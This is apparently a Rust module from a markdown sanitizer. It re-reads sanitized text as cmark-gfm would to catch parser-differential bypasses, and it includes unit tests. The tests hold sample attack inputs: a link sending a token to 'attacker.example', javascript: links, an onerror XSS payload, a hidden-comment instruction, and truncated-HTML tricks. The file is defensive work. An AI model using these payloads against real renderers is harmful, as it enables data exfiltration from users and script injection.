//! A second reading of sanitized markdown, as cmark-gfm reads it. Used by
//! [`super::markup::sanitize_markup`]; only the parser options are public (tests and
//! fuzz targets render with them).
//!
//! The markdown sanitizer reads text with `pulldown-cmark`. Hosts render it with other
//! `CommonMark` implementations, most often cmark-gfm (GitHub, many chat clients), and
//! those disagree with `pulldown-cmark` on corners: a list item holding only a task marker
//! ends its paragraph for `pulldown-cmark` (so an indented next line is a code block) and
//! not for cmark-gfm (so the line is a lazy continuation with live links). Every such
//! corner is a way past the sanitizer. So the sanitized text is read again with `comrak`,
//! a port of cmark-gfm that passes its spec and extension tests, with the GFM extensions
//! on (tables, strikethrough, task lists, footnotes, autolinks), and anything that reading
//! finds active is reported; the caller then escapes the whole text.
//!
//! Active, as the markdown sanitizer's own rules have it (module docs of
//! [`super::markdown`]; destinations read by [`markup::classify`], whose furthest
//! reading decides):
//! - a link (or autolink) whose destination has a scheme other than `http`, `https`,
//!   `mailto`, or carries data ([`markup::data_carriers`]) to an untrusted host;
//! - an image whose source is not relative (an `http(s)` host not trusted, or any other
//!   scheme);
//! - raw HTML (block or inline) that html5ever's tokenizer reads with an element of
//!   [`html::ACTIVE_TAGS`], an `on*` handler or other active attribute, a URL attribute
//!   other than a safe `href`, a comment with text in it, or a doctype;
//! - raw HTML that ends inside a tag, attribute value, comment or doctype (an HTML block
//!   cut by a blank line in the middle of `<img src="…`): the renderer's next output
//!   completes it.

use super::html;
use super::markup::{self, ContentPolicy, Target};
use crate::finding::Code;
use comrak::nodes::NodeValue;
use html5ever::buffer_queue::BufferQueue;
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
use std::cell::RefCell;

/// The `comrak` options of the second reading: the GFM extensions hosts render, as for
/// [`super::markdown`], plus autolinks (bare URLs are links for cmark-gfm;
/// `pulldown-cmark` has no such extension, the sanitizer scans text for them instead).
/// Raw HTML is parsed either way; rendering it needs `render.r#unsafe` on top.
#[must_use]
pub fn options() -> comrak::Options<'static> {
    let mut options = comrak::Options::default();
    options.extension.strikethrough = true;
    options.extension.table = true;
    options.extension.autolink = true;
    options.extension.tasklist = true;
    options.extension.footnotes = true;
    options
}

/// The first construct of `text` that cmark-gfm reads as active: the finding code it
/// falls under and what it is (for the finding's message; never the URL or text
/// itself). `None` when the reading finds nothing active.
pub(crate) fn first_active(text: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
    if autolink_scan_bytes(text) > MAX_AUTOLINK_SCAN_BYTES {
        return Some((
            Code::HtmlSanitized,
            "more bare URLs in unbroken text than an autolinker reads in reasonable time"
                .to_owned(),
        ));
    }
    // With footnotes and without: hosts differ on the extension (as in
    // `super::markdown::sanitize`).
    let mut without_footnotes = options();
    without_footnotes.extension.footnotes = false;
    first_active_with(text, policy, &options()).or_else(|| {
        // Without `[^` there is no footnote syntax: both readings are the same.
        memchr::memmem::find(text.as_bytes(), b"[^")
            .and_then(|_| first_active_with(text, policy, &without_footnotes))
    })
}

/// Bytes cmark-gfm's (and comrak's) autolinker reads for `text`: from each `://` and
/// `www.` it reads on to the next whitespace, then cuts the link back, so a long
/// stretch without whitespace holding many of them costs the square of its length
/// (comrak 0.59 `autolink::url_match`: 2.1 s for 225 KB of `https://a.com/<`). Linear.
fn autolink_scan_bytes(text: &str) -> usize {
    let bytes = text.as_bytes();
    let mut total = 0usize;
    let mut stretch_end = 0;
    let triggers =
        memchr::memmem::find_iter(bytes, b"://").chain(memchr::memmem::find_iter(bytes, b"www."));
    let mut at: Vec<usize> = triggers.collect();
    at.sort_unstable();
    for start in at {
        if start >= stretch_end {
            stretch_end = bytes[start..]
                .iter()
                .position(u8::is_ascii_whitespace)
                .map_or(bytes.len(), |n| start + n);
        }
        total = total.saturating_add(stretch_end - start);
    }
    total
}

/// Most bytes the second reading lets the autolinker read (see [`autolink_scan_bytes`]):
/// ~0.1 s of comrak. Text past it takes the escaped fallback, in which no autolink
/// starts (fails closed).
const MAX_AUTOLINK_SCAN_BYTES: usize = 64 << 20;

fn first_active_with(
    text: &str,
    policy: &ContentPolicy,
    options: &comrak::Options<'_>,
) -> Option<(Code, String)> {
    let arena = comrak::Arena::new();
    let root = comrak::parse_document(&arena, text, options);
    for node in root.descendants() {
        let data = node.data();
        let found = match &data.value {
            NodeValue::Link(link) => active_link(&link.url, policy),
            NodeValue::Image(image) => active_image(&image.url, policy),
            NodeValue::HtmlBlock(block) => active_html(&block.literal, policy),
            NodeValue::HtmlInline(inline) => active_html(inline, policy),
            _ => None,
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

fn active_link(dest: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
    match markup::classify(dest) {
        Target::Disallowed(scheme) => Some((
            Code::DangerousUrlScheme,
            format!("a link to a {scheme}: URL"),
        )),
        two @ Target::TwoReadings { .. } => Some((
            Code::UrlInvalidCharacter,
            format!("a link reaching {} depending on who reads it", two.hosts()),
        )),
        Target::Web(url) => {
            let host = url.host_str().unwrap_or_default();
            (!policy.is_trusted(host) && !markup::data_carriers(&url).is_empty()).then(|| {
                (
                    Code::LinkExfiltration,
                    format!("a link carrying data to {host}"),
                )
            })
        }
        Target::Mailto | Target::Relative | Target::Invalid => None,
    }
}

fn active_image(src: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
    match markup::classify(src) {
        Target::Web(url) => {
            let host = url.host_str().unwrap_or_default();
            (!policy.is_trusted(host))
                .then(|| (Code::ExternalImage, format!("an image loaded from {host}")))
        }
        Target::Disallowed(scheme) => Some((
            Code::DangerousUrlScheme,
            format!("an image with a {scheme}: source"),
        )),
        two @ Target::TwoReadings { .. } => Some((
            Code::UrlInvalidCharacter,
            format!(
                "an image loaded from {} depending on who reads it",
                two.hosts()
            ),
        )),
        Target::Mailto => Some((
            Code::DangerousUrlScheme,
            "an image with a mailto: source".to_owned(),
        )),
        Target::Relative | Target::Invalid => None,
    }
}

/// Fed after each raw HTML source in [`active_html`], once the source is read: the
/// tokenizer hands it back as text only when the source ends in text. Only text the
/// tokenizer emits after the source counts, so the same character inside the source (a
/// `&#xE000;` reference the tokenizer decodes) cannot pass for it.
const END_PROBE: char = '\u{E000}';

/// What html5ever's tokenizer finds active in one raw HTML block or inline tag. A source
/// that does not end in text counts as active too: a tag, attribute value, comment or
/// doctype left open where the raw HTML ends goes on into whatever the renderer writes
/// after it, so a browser reads the following page as that tag's attributes (or hides
/// it in that comment) up to the next `>`, and an `<img src="…` cut by a blank line
/// becomes an image after all.
fn active_html(source: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
    let sink = Sink {
        policy,
        found: RefCell::new(None),
        probing: std::cell::Cell::new(false),
        ends_in_text: std::cell::Cell::new(false),
    };
    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
    let queue = BufferQueue::default();
    queue.push_back(StrTendril::from_slice(source));
    let _ = tokenizer.feed(&queue);
    // The source is read (but a character reference it may end in, which the probe
    // then completes as text): from here on, text back means the source ended in text.
    tokenizer.sink.probing.set(true);
    queue.push_back(StrTendril::from_char(END_PROBE));
    let _ = tokenizer.feed(&queue);
    tokenizer.end();
    let found = tokenizer.sink.found.take();
    if found.is_none() && !tokenizer.sink.ends_in_text.get() {
        return Some((
            Code::HtmlSanitized,
            "raw HTML that ends inside a tag, comment or doctype".to_owned(),
        ));
    }
    found
}

/// Keeps the first active token, and whether [`END_PROBE`], fed once the source was
/// read (`probing`), came back as text.
struct Sink<'p> {
    policy: &'p ContentPolicy,
    found: RefCell<Option<(Code, String)>>,
    probing: std::cell::Cell<bool>,
    ends_in_text: std::cell::Cell<bool>,
}

impl Sink<'_> {
    fn tag(&self, name: &str, attrs: &[html5ever::Attribute]) -> Option<(Code, String)> {
        if html::ACTIVE_TAGS.contains(&name) {
            let code = if matches!(name, "img" | "image" | "picture" | "source") {
                Code::ExternalImage
            } else {
                Code::HtmlSanitized
            };
            return Some((code, format!("an HTML <{name}> element")));
        }
        for attr in attrs {
            let key: &str = &attr.name.local;
            let value: &str = &attr.value;
            if key.starts_with("on") || html::ACTIVE_ATTRIBUTES.contains(&key) {
                return Some((
                    Code::HtmlSanitized,
                    format!("an HTML {key} attribute on <{name}>"),
                ));
            }
            if key == "href" {
                if let Some(found) = active_link(value, self.policy) {
                    return Some(found);
                }
            } else if html::URL_ATTRIBUTES.contains(&key) && !value.trim().is_empty() {
                return Some((
                    Code::HtmlSanitized,
                    format!("an HTML {key} URL on <{name}>"),
                ));
            }
        }
        None
    }
}

impl TokenSink for Sink<'_> {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        if let Token::CharacterTokens(text) = &token
            && self.probing.get()
            && text.contains(END_PROBE)
        {
            self.ends_in_text.set(true);
        }
        if self.found.borrow().is_some() {
            return TokenSinkResult::Continue;
        }
        let found = match token {
            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
                self.tag(&tag.name, &tag.attrs)
            }
            Token::CommentToken(c)
                if !c
                    .trim_matches(|ch: char| ch == '-' || ch.is_whitespace())
                    .is_empty() =>
            {
                Some((Code::HiddenComment, "an HTML comment with text".to_owned()))
            }
            Token::DoctypeToken(_) => Some((Code::HiddenComment, "an HTML doctype".to_owned())),
            _ => None,
        };
        if found.is_some() {
            *self.found.borrow_mut() = found;
        }
        TokenSinkResult::Continue
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn active(text: &str) -> Option<Code> {
        first_active(text, &ContentPolicy::default()).map(|(code, _)| code)
    }

    /// The autolinker's reading cost is counted, not paid: many bare URLs in one
    /// whitespace-free stretch (quadratic for cmark-gfm's autolinker) go to the escaped
    /// fallback; the same URLs apart, or a long JSON line with a few, are read as usual.
    #[test]
    fn text_the_autolinker_would_read_quadratically_is_not_read() {
        let crowded = "https://a.example/<".repeat(15_000);
        assert!(autolink_scan_bytes(&crowded) > MAX_AUTOLINK_SCAN_BYTES);
        assert_eq!(active(&crowded), Some(Code::HtmlSanitized));
        let out = markup::sanitize_markup(&crowded, None, &ContentPolicy::default(), "/t");
        assert!(!out.text.contains("https://"), "{}", &out.text[..200]);
        let spaced = "https://a.example/ <".repeat(15_000);
        assert!(autolink_scan_bytes(&spaced) < 1 << 20);
        let json = format!(
            "[{}]",
            (0..100)
                .map(|i| format!(
                    "{{\"url\":\"https://docs.example/p{i}\",\"n\":\"{}\"}}",
                    "x".repeat(100)
                ))
                .collect::<Vec<_>>()
                .join(",")
        );
        assert!(autolink_scan_bytes(&json) < MAX_AUTOLINK_SCAN_BYTES);
        assert_eq!(
            autolink_scan_bytes("www.a.example x https://b.example"),
            13 + 12
        );
    }

    /// Each kind of active construct is found, and ordinary markdown is not.
    #[test]
    fn what_cmark_gfm_reads_as_active() {
        let secret = "https://attacker.example/c?token=c2VjcmV0LXRva2VuLXZhbHVl";
        let cases: Vec<(String, Option<Code>)> = vec![
            (
                "[a](javascript:alert(1))".into(),
                Some(Code::DangerousUrlScheme),
            ),
            (format!("[a]({secret})"), Some(Code::LinkExfiltration)),
            (format!("see {secret} now"), Some(Code::LinkExfiltration)),
            (
                "![i](https://attacker.example/p.png)".into(),
                Some(Code::ExternalImage),
            ),
            ("<img src=x>".into(), Some(Code::ExternalImage)),
            ("<b onclick=\"x()\">b</b>".into(), Some(Code::HtmlSanitized)),
            (
                "<a href=\"javascript:x\">a</a>".into(),
                Some(Code::DangerousUrlScheme),
            ),
            ("<!-- do this -->".into(), Some(Code::HiddenComment)),
            // A task marker alone on its line: the next line continues the paragraph.
            (
                "- [x]\n    [a](javascript:alert(1)) text\n".into(),
                Some(Code::DangerousUrlScheme),
            ),
            // Raw HTML cut short where its block ends (a blank line): what the renderer
            // writes next becomes the tag's attributes, or hides in a comment.
            (
                "<div>\n<img src=\"https://attacker.example/p.png\" alt=\"x\n\nlater text\n".into(),
                Some(Code::HtmlSanitized),
            ),
            (
                "<div>\n<b title='x\n\nlater\n".into(),
                Some(Code::HtmlSanitized),
            ),
            ("<div>\n<!-- \n\nlater\n".into(), Some(Code::HiddenComment)),
            (
                "<div>\ntext <span\n\nlater\n".into(),
                Some(Code::HtmlSanitized),
            ),
            // The probe character written into the source as a reference.
            (
                "<div>\n&#xE000;<img src=x onerror=alert(1) x\n\nlater\n".into(),
                Some(Code::HtmlSanitized),
            ),
            (
                "<div>\n&#57344;<b title='x\n\nlater\n".into(),
                Some(Code::HtmlSanitized),
            ),
            ("<div>\nends in a reference &#xE000\n\nlater\n".into(), None),
            // Look-alikes.
            ("<div>\nfine <b>bold</b> a < b\n\nlater\n".into(), None),
            ("<div>\n<p>closed</p>\n".into(), None),
            ("[docs](https://docs.example.com/page?lang=en)".into(), None),
            ("![logo](img/logo.png) <b>bold</b> <!-- -->".into(), None),
            ("    [a](javascript:alert(1))\n".into(), None),
            ("`<script>` and www.example.com".into(), None),
            ("- [x] done\n- [ ] open\n".into(), None),
        ];
        for (text, want) in cases {
            assert_eq!(active(&text), want, "{text:?}");
        }
    }
}
